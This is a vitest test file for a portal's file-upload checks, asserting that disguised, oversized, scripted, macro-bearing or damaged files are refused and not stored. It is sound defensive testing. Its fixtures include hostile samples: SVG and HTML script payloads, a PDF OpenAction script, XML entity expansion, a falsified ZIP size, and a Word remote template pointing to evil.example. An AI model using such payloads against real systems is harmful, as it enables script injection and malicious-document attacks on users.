/** Uploaded files are checked by their content: disguised files, bombs, scripts and damaged files are refused, and nothing is stored. */
import { MAX_ASSET_BYTES } from '@vialdesk/contract/documents/resources'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { buildPdf } from '#api/platform/pdf/pdf.fixture.ts'
import { createUser } from '#api/testing/factories.ts'
import { pictureOfSize } from '#api/testing/picture-of-size.ts'
import { startTestPortal, type TestPortal } from '#api/testing/test-portal.ts'
import { guidePdf, sendFile, wordFile, wordTypes, zipOf } from './resources.fixture.ts'

const MB = 1024 * 1024
const UNKNOWN =
  'This kind of file is not accepted. Choose a PDF, a PNG, JPEG or WebP picture, or a Word, Excel or PowerPoint file.'
const SVG = 'An SVG picture can contain scripts. Save it as a PNG and upload that one.'
const DAMAGED = 'This file is damaged. Open it, save it again and upload that one.'
const UNPACKED = 'This file is too large when it is unpacked.'
const MACROS = 'This file has macros or programs. Save it without them and upload that one.'

let portal: TestPortal
let token: string

beforeAll(async () => {
  portal = await startTestPortal()
  token = await portal.tokenOf(await portal.seed((db) => createUser(db, 'admin')))
})
afterAll(() => portal.close())

const picture = (width = 8, height = 8) => sharp({ create: { width, height, channels: 3, background: '#0b6e6e' } })
const svg = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
const countFiles = async () => Number((await portal.owner.query('select count(*) as n from stored_files')).rows[0].n)

describe('accepts, by the content and not by the declared type', () => {
  const excel = wordTypes.replace('wordprocessingml.document', 'spreadsheetml.sheet')
  const slides = wordTypes.replace('wordprocessingml.document', 'presentationml.presentation')
  test.each<[string, () => Buffer | Promise<Buffer>, RegExp]>([
    ['guide.pdf', guidePdf, /^application\/pdf$/],
    ['photo.png', () => picture().png().toBuffer(), /^image\/png$/],
    ['photo.JPEG', () => picture().jpeg().toBuffer(), /^image\/jpeg$/],
    ['photo.webp', () => picture().webp().toBuffer(), /^image\/webp$/],
    ['letter.docx', () => wordFile(), /wordprocessingml\.document$/],
    ['prices.xlsx', () => zipOf({ '[Content_Types].xml': excel }), /spreadsheetml\.sheet$/],
    ['talk.pptx', () => zipOf({ '[Content_Types].xml': slides }), /presentationml\.presentation$/],
    ['no ending', guidePdf, /^application\/pdf$/],
  ])('%s', async (name, make, type) => {
    const bytes = await make()
    const answer = await sendFile(portal, token, { bytes, name, type: 'text/html' })
    expect([answer.statusCode, answer.json().size]).toEqual([200, bytes.length])
    expect(answer.json().media_type).toMatch(type)
    expect(answer.json().filename).toMatch(/^[0-9a-f]{40}\.(pdf|png|jpg|webp|docx|xlsx|pptx)$/)
  })
})

/** A Word file with 1 MB in an entry, whose directory names another size. */
async function wordFileOfSize(claimed: number): Promise<Buffer> {
  const name = 'word/media/a.bmp'
  const bytes = await wordFile({ [name]: Buffer.alloc(MB) })
  // The directory at the end has the size 24 bytes after the beginning of an entry, and the name 46 bytes after it.
  bytes.writeUInt32LE(claimed, bytes.lastIndexOf(name) - 46 + 24)
  return bytes
}

const entity = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><document>&b;</document>'
const remote =
  '<Relationships><Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'

describe('refuses with the reason', () => {
  test.each<[string, string, () => Buffer | Promise<Buffer>, string | RegExp]>([
    ['an empty file', 'a.pdf', () => Buffer.alloc(0), 'This file is empty.'],
    ['a page with the name of a PDF', 'a.pdf', () => Buffer.from('<!doctype html><script>alert(1)</script>'), UNKNOWN],
    ['a page in front of a PDF', 'a.pdf', () => Buffer.concat([Buffer.from('<script>alert(1)</script>'), guidePdf()]), UNKNOWN],
    ['a program with the name of a picture', 'a.png', () => Buffer.from('MZ\x90\x00program', 'latin1'), UNKNOWN],
    ['a drawing with a script', 'logo.svg', () => Buffer.from(svg), SVG],
    ['a drawing with the name of a picture', 'logo.png', () => Buffer.from(svg), SVG],
    [
      'a drawing that starts like a PNG',
      'logo.png',
      () => Buffer.from(`\x89PNG\r\n\x1a\n${svg}`, 'latin1'),
      'This image is damaged.',
    ],
    [
      'half of a picture',
      'a.png',
      async () => (await picture(300, 300).png({ compressionLevel: 0 }).toBuffer()).subarray(0, 2000),
      'This image is damaged.',
    ],
    [
      'a picture with too many pixels',
      'a.png',
      () => pictureOfSize(7200, 7200),
      'This image has too many pixels. Choose a smaller one.',
    ],
    [
      'a picture with the name of a PDF',
      'a.pdf',
      () => picture().png().toBuffer(),
      'The name of this file ends with .pdf, but its content is a PNG picture. Give it the right name.',
    ],
    [
      'a PDF with the name of a program',
      'a.exe',
      guidePdf,
      'The name of this file ends with .exe, but its content is a PDF. Give it the right name.',
    ],
    ['a PDF with a script', 'a.pdf', () => buildPdf({ catalog: '/OpenAction << /S /JavaScript /JS (x) >>' }), /has a script/],
    ['half of a PDF', 'a.pdf', () => guidePdf().subarray(0, 200), /damaged/],
    ['an archive', 'a.zip', () => zipOf({ 'a.txt': 'text' }), 'Archives are not accepted. Upload the files one by one.'],
    ['an archive with the name of a Word file', 'a.docx', () => zipOf({ 'a.txt': 'text' }), /^Archives are not accepted/],
    ['half of an archive', 'a.docx', async () => (await wordFile()).subarray(0, 100), DAMAGED],
    ['a Word file that unpacks to much more', 'a.docx', () => wordFileOfSize(201 * MB), UNPACKED],
    ['a Word file that hides how large it is', 'a.docx', () => wordFileOfSize(100), DAMAGED],
    ['a Word file with endless entities', 'a.docx', () => wordFile({ 'word/a.xml': entity }), UNPACKED],
    [
      'endless entities in another encoding',
      'a.docx',
      () => wordFile({ 'word/a.xml': Buffer.from(entity, 'utf16le') }),
      UNPACKED,
    ],
    ['a Word file with macros', 'a.docx', () => wordFile({ 'word/vbaProject.bin': 'x' }), MACROS],
    ['a Word file with a program', 'a.docx', () => wordFile({ 'word/embeddings/oleObject1.bin': 'x' }), MACROS],
    [
      'a Word file with a remote template',
      'a.docx',
      () => wordFile({ 'word/_rels/settings.xml.rels': remote }),
      /loads a template/,
    ],
    ['a Word file that allows macros', 'a.docx', () => zipOf({ '[Content_Types].xml': `${wordTypes}macroEnabled` }), MACROS],
  ])('%s', async (_, name, make, reason) => {
    const before = await countFiles()
    const answer = await sendFile(portal, token, { bytes: await make(), name, type: 'application/pdf' })
    expect([answer.statusCode, answer.json().errors]).toEqual([422, { file: [expect.stringMatching(reason)] }])
    expect(await countFiles()).toBe(before)
  })

  test('a file of more than 25 MB', async () => {
    const before = await countFiles()
    const answer = await sendFile(portal, token, { bytes: Buffer.alloc(MAX_ASSET_BYTES + 1), name: 'a.pdf' })
    expect([answer.statusCode, await countFiles()]).toEqual([413, before])
  })
})
